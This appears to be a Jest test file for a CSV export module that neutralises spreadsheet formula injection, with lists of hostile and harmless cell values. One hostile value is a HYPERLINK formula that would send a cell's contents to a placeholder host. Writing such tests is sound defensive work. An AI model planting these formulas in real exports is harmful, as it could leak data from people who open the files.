import { csvCell, neutraliseCell, restoreCell, toCsvFile } from '../../src/common/csv';
import { toCsv } from '../../src/reports/report.csv';

/** Cells a host could type into an area, a title or an organisation name. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?d="&A1,"詳細")',
  '=1+1',
  '+81-3-1234',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("x")',
  '＋1',
  "'=already quoted",
  "''@twice",
];
const HARMLESS = ['東部', '', "'", "'居場所", 'a=b', '3', '-3', '+12.5', '1-2-3', 'テスト, "引用"', '\n改行'];

describe('CSV injection (OWASP): neutraliseCell and restoreCell', () => {
  it.each(HOSTILE)('neutralises %p so that no cell starts a formula', (value) => {
    const cell = neutraliseCell(value);
    expect(cell.startsWith("'")).toBe(true);
    expect(cell).toBe(`'${value}`);
  });

  it.each(HARMLESS)('leaves %p as it is', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it.each([...HOSTILE, ...HARMLESS])('round-trips %p exactly', (value) => {
    expect(restoreCell(neutraliseCell(value))).toBe(value);
  });

  it('quotes after neutralising, and writes numbers as numbers', () => {
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(-3)).toBe('-3');
    expect(
      toCsvFile([
        ['a', '=b'],
        [1, null],
      ]),
    ).toBe("\uFEFFa,'=b\r\n1,\r\n");
  });
});

describe('report CSV with hostile names', () => {
  it('writes an area named like a formula as text, keeping figures numeric', () => {
    const csv = toCsv([
      {
        period: '2026-10',
        figures: [{ key: 'k', label: '新規の資源', value: 2, breakdowns: { area: { '=HYPERLINK("x")': 1, '-西部': 1 } } }],
      },
    ]);
    const cells = csv
      .slice(1)
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@＝＋＠-]/);
    expect(csv).toContain(`2026-10,新規の資源,地区,"'=HYPERLINK(""x"")",1\r\n`);
    expect(csv).toContain("2026-10,新規の資源,地区,'-西部,1\r\n");
  });
});
